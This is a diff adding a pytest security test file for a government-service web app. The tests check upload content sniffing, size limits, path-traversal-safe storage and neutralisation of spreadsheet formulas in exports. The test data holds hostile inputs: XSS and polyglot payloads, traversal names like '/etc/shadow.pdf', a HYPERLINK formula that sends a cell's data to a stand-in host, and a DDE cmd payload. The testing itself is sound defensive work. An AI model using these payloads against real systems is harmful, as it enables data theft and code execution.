@@ -1,0 +1,192 @@
+"""Uploads are checked for type (by content), size (without reading unbounded data) and path
+traversal (the client's file name never names a stored file); exports neutralise formula cells."""
+
+from __future__ import annotations
+
+import csv
+import io
+import re
+from pathlib import Path
+
+from openpyxl import load_workbook
+
+from emitra.core import config, spreadsheet
+from emitra.core.models import LSP, Citizen, Document, StatementImport
+from tests.test_reports import PERIOD, _record
+
+CASTE = "gov.rj.revenue.caste_certificate"
+FIELD = "ration_card_scan"
+PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\n%%EOF\n"
+DATA = Path(__file__).parent / "data"
+
+
+def _url(web) -> str:
+    async def ramesh():
+        return (await Citizen.get(name="Ramesh Kumar Sharma")).emitra_id
+
+    return f"/counter/citizens/{web.run(ramesh)}/services/{CASTE}"
+
+
+def upload(web, name: str, content: bytes, claimed: str = "application/pdf"):
+    url = _url(web)
+    return web.client.post(url, data={"csrf_token": web.csrf(url)}, files={FIELD: (name, content, claimed)})
+
+
+def accepted(response) -> bool:
+    """The file was kept (the rest of the form may still be incomplete: the page then asks for it)."""
+    return response.status_code in (200, 400) and "This file is not" not in response.text and "The file is" not in response.text
+
+
+def documents(web) -> list[Document]:
+    async def rows():
+        return await Document.all().order_by("id")
+
+    return web.run(rows)
+
+
+def test_a_scan_is_judged_by_its_content_not_its_name_or_claimed_type(web):
+    web.login("operator1")
+    hostile = {
+        "scan.png": (b"<html><body><script>alert(1)</script></body></html>", "image/png"),
+        "photo.png": (b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>', "image/png"),
+        "card.pdf": (b"PK\x03\x04 a zip or a Word file", "application/pdf"),
+        "empty.pdf": (b"", "application/pdf"),
+    }
+    for name, (content, claimed) in hostile.items():
+        response = upload(web, name, content, claimed)
+        assert response.status_code == 400, name
+        assert "This file is not a PDF, JPEG, PNG document" in response.text or "The file is empty" in response.text, name
+    assert documents(web) == []
+    # a PDF named .jpg and sent as a JPEG is kept, as what it is
+    assert accepted(upload(web, "card.jpg", PDF, "image/jpeg"))
+    (doc,) = documents(web)
+    assert doc.content_type == "application/pdf" and doc.original_name == "card.jpg"
+    served = web.get(f"/documents/{doc.public_id}")
+    assert served.headers["content-type"] == "application/pdf"
+    assert served.headers["content-disposition"] == f'attachment; filename="{doc.public_id}.pdf"'
+
+
+def test_a_polyglot_is_served_only_as_its_declared_image_never_as_a_page(web):
+    web.login("operator1")
+    polyglot = b"\x89PNG\r\n\x1a\n<html><script>alert(document.cookie)</script></html>"
+    assert accepted(upload(web, "innocent.png", polyglot, "text/html"))
+    (doc,) = documents(web)
+    served = web.get(f"/documents/{doc.public_id}")
+    assert served.status_code == 200 and served.content == polyglot
+    assert served.headers["content-type"] == "image/png"
+    assert served.headers["x-content-type-options"] == "nosniff"
+    assert served.headers["content-disposition"].startswith("attachment;")
+    assert served.headers["content-security-policy"] == "default-src 'none'; sandbox"
+
+
+def test_a_scan_over_its_limit_is_refused_on_its_field_naming_the_limit(web):
+    web.login("operator1")
+    big = upload(web, "big.pdf", PDF + b"0" * (1024 * 1024 + 10))
+    assert big.status_code == 400
+    assert "at most 1024 KB is accepted" in big.text and 'id="f-ration_card_scan-error"' in big.text
+    assert documents(web) == []
+
+
+def test_a_form_over_the_request_limit_or_with_too_many_files_is_refused_before_it_is_read(web, monkeypatch):
+    web.login("operator1")
+    url = _url(web)
+    token = web.csrf(url)
+    monkeypatch.setenv("EMITRA_MAX_REQUEST_MB", "1")
+    big = web.client.post(url, data={"csrf_token": token}, files={FIELD: ("big.pdf", PDF + b"0" * (1536 * 1024), "application/pdf")})
+    assert big.status_code == 413
+    assert "larger than 1 MB" in big.text and "EMITRA_MAX_REQUEST_MB" in big.text
+
+    def chunks():  # no Content-Length: the body is cut off once it passes the limit
+        for n in range(48):
+            yield f"f{n}=".encode() + b"x" * (64 * 1024 - 8) + b"&"
+
+    streamed = web.client.post(url, content=chunks(), headers={"content-type": "application/x-www-form-urlencoded"})
+    assert streamed.status_code == 413
+    api = web.client.post("/api/v1/documents", headers=web.api_token("operator1"), data={"service_code": "x", "field": FIELD},
+                          files={"file": ("big.pdf", PDF + b"0" * (1536 * 1024), "application/pdf")})  # the API's upload too
+    assert api.status_code == 413 and api.json()["error"]["code"] == "too_large"
+    assert "larger than 1 MB" in api.json()["error"]["message"]
+    monkeypatch.delenv("EMITRA_MAX_REQUEST_MB")
+    files = [(f"extra{n}", (f"{n}.pdf", PDF, "application/pdf")) for n in range(25)]
+    many = web.client.post(url, data={"csrf_token": token}, files=files)
+    assert many.status_code == 400 and "Too many files" in many.text
+    assert documents(web) == []
+
+
+def test_client_file_names_never_name_a_stored_file(web):
+    web.login("operator1")
+    root = config.data_dir()
+    before = {p for p in root.rglob("*") if p.is_file()}
+    names = ["../../etc/passwd.pdf", "..\\..\\windows\\win.ini.pdf", "/etc/shadow.pdf", "C:\\boot.pdf",
+             "a" * 1000 + ".pdf", "scan\u202efdp.exe", "..", "nul\x00byte.pdf", "तहसील स्कैन.pdf"]
+    for name in names:
+        assert accepted(upload(web, name, PDF)), name
+    docs = documents(web)
+    assert len(docs) == len(names)
+    created = {p for p in root.rglob("*") if p.is_file()} - before
+    assert created == {root / "documents" / d.public_id[:2] / d.public_id for d in docs}
+    assert all(re.fullmatch(r"[0-9a-f]{32}", d.public_id) for d in docs)
+    shown = [d.original_name for d in docs]
+    assert shown[:4] == ["passwd.pdf", "win.ini.pdf", "shadow.pdf", "boot.pdf"]
+    assert len(shown[4]) == 200 and shown[4].endswith(".pdf")
+    assert shown[5] == "scanfdp.exe" and shown[6] == "" and "\x00" not in shown[7] and shown[8] == "तहसील स्कैन.pdf"
+    for doc in docs:
+        served = web.get(f"/documents/{doc.public_id}")
+        assert served.headers["content-disposition"] == f'attachment; filename="{doc.public_id}.pdf"'
+    for probe in ("..%2F..%2Fetc%2Fpasswd", "....", "%00", docs[0].public_id + "%00"):
+        assert web.get(f"/documents/{probe}").status_code == 404, probe
+
+
+def test_statement_uploads_are_limited_checked_and_named_safely(web):
+    web.login("society")
+    token = web.csrf("/society/reconciliation")
+
+    def send(action: str, name: str, content: bytes, claimed: str = "text/csv"):
+        return web.post("/society/reconciliation", data={"action": action, "csrf_token": token}, files={"file": (name, content, claimed)})
+
+    too_big = send("import_bank", "bank.csv", b"date,description,reference,debit,credit,balance\n" + b"x" * (5 * 1024 * 1024 + 1))
+    assert too_big.status_code == 400 and "larger than 5 MB" in too_big.text
+    latin = send("import_bank", "bank.csv", "date,description\n2025-11-24,Caf\u00e9 d\u00e9p\u00f4t\n".encode("latin-1"))
+    assert latin.status_code == 400 and "not UTF-8 text" in latin.text
+    pdf = send("import_bank", "bank.csv", PDF + b"\xff\xfe binary")
+    assert pdf.status_code == 400
+    not_json = send("import_stripe", "stripe.json", b"<html>not json</html>", "application/json")
+    assert not_json.status_code == 400
+    assert web.run(lambda: StatementImport.all().count()) == 0
+    good = send("import_bank", "../../..\\bank\u202e.csv", (DATA / "bank_good.csv").read_bytes())
+    assert good.status_code == 200
+
+    async def filename():
+        return (await StatementImport.get()).filename
+
+    assert web.run(filename) == "bank.csv"
+
+
+def test_formula_cells_are_neutralised_in_every_export(web, monkeypatch):
+    assert [spreadsheet.cell(v) for v in ("=1+1", "+91 98", "-150.00", "-1,00,000.00", "-1+1", "@SUM(A1)", "\tx", "plain", 5)] == \
+        ["'=1+1", "'+91 98", "-150.00", "-1,00,000.00", "'-1+1", "'@SUM(A1)", "'\tx", "plain", 5]
+    # a bank statement line whose reference and description are formulas
+    web.login("society")
+    token = web.csrf("/society/reconciliation")
+    statement = (DATA / "bank_good.csv").read_text().replace("CDM123", '=HYPERLINK("http://evil.example/?x="&A1)') \
+        .replace("BY CASH DEP SLIP", "@SUM(1+1) CASH DEP SLIP")
+    assert web.post("/society/reconciliation", data={"action": "import_bank", "csrf_token": token},
+                    files={"file": ("bank.csv", statement.encode(), "text/csv")}).status_code == 200
+    exported = web.get("/society/reconciliation/export.csv?week=2025-11-24")
+    cells = [c for line in csv.reader(io.StringIO(exported.text)) for c in line]
+    assert "'=HYPERLINK(\"http://evil.example/?x=\"&A1)" in cells
+    assert not [c for c in cells if c[:1] in ("=", "+", "@") or (c[:1] == "-" and not re.fullmatch(r"-[\d.]+", c))]
+    # an LSP whose name is a formula, in the MIS report's CSV and XLSX
+    _record(web, monkeypatch)
+
+    async def rename():
+        await LSP.all().update(name="=cmd|' /C calc'!A0")
+
+    web.run(rename)
+    report = web.get(f"/reports/export.csv?{PERIOD}&by=lsp")
+    cells = [c for line in csv.reader(io.StringIO(report.text.lstrip("\ufeff"))) for c in line]
+    assert "'=cmd|' /C calc'!A0" in cells and "=cmd|' /C calc'!A0" not in cells
+    book = load_workbook(io.BytesIO(web.get(f"/reports/export.xlsx?{PERIOD}&by=lsp").content))
+    values = [c for row in book["Figures"].iter_rows() for c in row]
+    assert any(c.value == "'=cmd|' /C calc'!A0" and c.data_type == "s" for c in values)
+    assert not [c for c in values if c.data_type == "f"]
